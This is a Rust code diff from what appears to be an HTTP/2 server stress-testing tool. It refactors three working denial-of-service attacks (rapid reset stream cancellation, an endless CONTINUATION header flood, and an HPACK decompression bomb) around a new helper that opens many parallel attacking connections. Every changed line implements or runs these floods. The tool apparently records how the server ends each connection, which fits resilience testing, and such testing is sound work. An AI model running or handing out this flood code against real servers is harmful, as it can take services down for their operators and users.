@@ -127,46 +127,58 @@ fn ended(seen: &[Arc<Seen>]) -> String {
     )
 }
 
+/// Runs `attack` on `conns` new connections at once, each on a thread of its own until `hold`
+/// ends (or the server stops it); what the server sent back is watched. Returns the sum of
+/// what the threads counted, and what each connection saw.
+fn flood<F>(
+    connect: &dyn Fn() -> Result<TcpStream, String>,
+    conns: usize,
+    hold: Duration,
+    attack: F,
+) -> Result<(u64, Vec<Arc<Seen>>), String>
+where
+    F: Fn(&mut TcpStream, Instant, &AtomicU64) + Send + Sync + 'static,
+{
+    let until = Instant::now() + hold;
+    let (sent, attack) = (Arc::new(AtomicU64::new(0)), Arc::new(attack));
+    let mut seen = Vec::new();
+    let mut workers = Vec::new();
+    for _ in 0..conns {
+        let mut c = open(connect, &[])?;
+        seen.push(watch(&c));
+        let (sent, attack) = (sent.clone(), attack.clone());
+        workers.push(std::thread::spawn(move || attack(&mut c, until, &sent)));
+    }
+    for w in workers {
+        let _ = w.join();
+    }
+    Ok((sent.load(Ordering::Relaxed), seen))
+}
+
 /// Rapid reset: streams opened and cancelled at once, as fast as the server takes them.
 pub fn rapid_reset(
     connect: &dyn Fn() -> Result<TcpStream, String>,
     conns: usize,
     hold: Duration,
 ) -> Result<String, String> {
-    let until = Instant::now() + hold;
-    let sent = Arc::new(AtomicU64::new(0));
-    let mut seen = Vec::new();
-    let mut workers = Vec::new();
-    for _ in 0..conns {
-        let mut c = open(connect, &[])?;
-        seen.push(watch(&c));
-        let sent = sent.clone();
-        workers.push(std::thread::spawn(move || {
-            let block = get("/?size=1MiB");
-            let mut id = 1u32;
-            let mut batch = Vec::new();
-            while Instant::now() < until && id < 0x7fff_0000 {
-                batch.clear();
-                for _ in 0..100 {
-                    batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &block));
-                    batch.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes())); // CANCEL
-                    id += 2;
-                }
-                if c.write_all(&batch).is_err() {
-                    return;
-                }
-                sent.fetch_add(100, Ordering::Relaxed);
+    let (sent, seen) = flood(connect, conns, hold, |c, until, sent| {
+        let block = get("/?size=1MiB");
+        let mut id = 1u32;
+        let mut batch = Vec::new();
+        while Instant::now() < until && id < 0x7fff_0000 {
+            batch.clear();
+            for _ in 0..100 {
+                batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &block));
+                batch.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes())); // CANCEL
+                id += 2;
             }
-        }));
-    }
-    for w in workers {
-        let _ = w.join();
-    }
-    Ok(format!(
-        "rapid reset: {} streams opened and cancelled on {conns} connections; {}",
-        sent.load(Ordering::Relaxed),
-        ended(&seen)
-    ))
+            if c.write_all(&batch).is_err() {
+                return;
+            }
+            sent.fetch_add(100, Ordering::Relaxed);
+        }
+    })?;
+    Ok(format!("rapid reset: {sent} streams opened and cancelled on {conns} connections; {}", ended(&seen)))
 }
 
 /// CONTINUATION flood: one header block that never ends, a frame of new headers at a time.
@@ -175,44 +187,32 @@ pub fn continuation_flood(
     conns: usize,
     hold: Duration,
 ) -> Result<String, String> {
-    let until = Instant::now() + hold;
-    let sent = Arc::new(AtomicU64::new(0));
-    let mut seen = Vec::new();
-    let mut workers = Vec::new();
-    for _ in 0..conns {
-        let mut c = open(connect, &[])?;
-        seen.push(watch(&c));
-        let sent = sent.clone();
-        workers.push(std::thread::spawn(move || {
-            if c.write_all(&frame(HEADERS, END_STREAM, 1, &get("/"))).is_err() {
+    let (sent, seen) = flood(connect, conns, hold, |c, until, sent| {
+        if c.write_all(&frame(HEADERS, END_STREAM, 1, &get("/"))).is_err() {
+            return;
+        }
+        // Literal headers without indexing, new names (RFC 7541 §6.2.2): 00 len name len value.
+        let mut block = Vec::with_capacity(MAX_FRAME);
+        let mut n = 0u64;
+        while Instant::now() < until {
+            block.clear();
+            while block.len() + 40 < MAX_FRAME {
+                let name = format!("x-flood-{n:012}");
+                block.extend([0x00, name.len() as u8]);
+                block.extend_from_slice(name.as_bytes());
+                block.extend([8]);
+                block.extend_from_slice(b"continue");
+                n += 1;
+            }
+            if c.write_all(&frame(CONTINUATION, 0, 1, &block)).is_err() {
                 return;
             }
-            // Literal headers without indexing, new names (RFC 7541 §6.2.2): 00 len name len value.
-            let mut block = Vec::with_capacity(MAX_FRAME);
-            let mut n = 0u64;
-            while Instant::now() < until {
-                block.clear();
-                while block.len() + 40 < MAX_FRAME {
-                    let name = format!("x-flood-{n:012}");
-                    block.extend([0x00, name.len() as u8]);
-                    block.extend_from_slice(name.as_bytes());
-                    block.extend([8]);
-                    block.extend_from_slice(b"continue");
-                    n += 1;
-                }
-                if c.write_all(&frame(CONTINUATION, 0, 1, &block)).is_err() {
-                    return;
-                }
-                sent.fetch_add(block.len() as u64, Ordering::Relaxed);
-            }
-        }));
-    }
-    for w in workers {
-        let _ = w.join();
-    }
+            sent.fetch_add(block.len() as u64, Ordering::Relaxed);
+        }
+    })?;
     Ok(format!(
         "CONTINUATION flood: {} KB of header block never ended on {conns} connections; {}",
-        sent.load(Ordering::Relaxed) >> 10,
+        sent >> 10,
         ended(&seen)
     ))
 }
@@ -224,43 +224,30 @@ pub fn hpack_bomb(
     conns: usize,
     hold: Duration,
 ) -> Result<String, String> {
-    let until = Instant::now() + hold;
-    let sent = Arc::new(AtomicU64::new(0));
-    let mut seen = Vec::new();
-    let mut workers = Vec::new();
-    for _ in 0..conns {
-        let mut c = open(connect, &[])?;
-        seen.push(watch(&c));
-        let sent = sent.clone();
-        workers.push(std::thread::spawn(move || {
-            let mut id = 1u32;
-            while Instant::now() < until {
-                let mut block = get("/");
-                // Literal with incremental indexing, new name (RFC 7541 §6.2.1): 0x40, name, value
-                // of 4000 bytes (length 4000 in a 7-bit prefix integer: 0x7f, then 3873 in base 128).
-                block.extend([0x40, 6]);
-                block.extend_from_slice(b"x-bomb");
-                block.extend([0x7f, 0xa1, 0x1e]);
-                block.extend(std::iter::repeat_n(b'a', 4000));
-                // Index 62: the first dynamic entry, one byte each.
-                while block.len() < MAX_FRAME {
-                    block.push(0x80 | 62);
-                }
-                if c.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &block)).is_err() {
-                    return;
-                }
-                sent.fetch_add(1, Ordering::Relaxed);
-                id += 2;
-                std::thread::sleep(Duration::from_millis(1));
+    let (sent, seen) = flood(connect, conns, hold, |c, until, sent| {
+        let mut id = 1u32;
+        while Instant::now() < until {
+            let mut block = get("/");
+            // Literal with incremental indexing, new name (RFC 7541 §6.2.1): 0x40, name, value
+            // of 4000 bytes (length 4000 in a 7-bit prefix integer: 0x7f, then 3873 in base 128).
+            block.extend([0x40, 6]);
+            block.extend_from_slice(b"x-bomb");
+            block.extend([0x7f, 0xa1, 0x1e]);
+            block.extend(std::iter::repeat_n(b'a', 4000));
+            // Index 62: the first dynamic entry, one byte each.
+            while block.len() < MAX_FRAME {
+                block.push(0x80 | 62);
             }
-        }));
-    }
-    for w in workers {
-        let _ = w.join();
-    }
+            if c.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &block)).is_err() {
+                return;
+            }
+            sent.fetch_add(1, Ordering::Relaxed);
+            id += 2;
+            std::thread::sleep(Duration::from_millis(1));
+        }
+    })?;
     Ok(format!(
-        "HPACK bomb: {} requests of 16 KB decoding to ~{} MB of headers each, on {conns} connections; {}",
-        sent.load(Ordering::Relaxed),
+        "HPACK bomb: {sent} requests of 16 KB decoding to ~{} MB of headers each, on {conns} connections; {}",
         ((MAX_FRAME - 4100) * 4038) >> 20,
         ended(&seen)
     ))
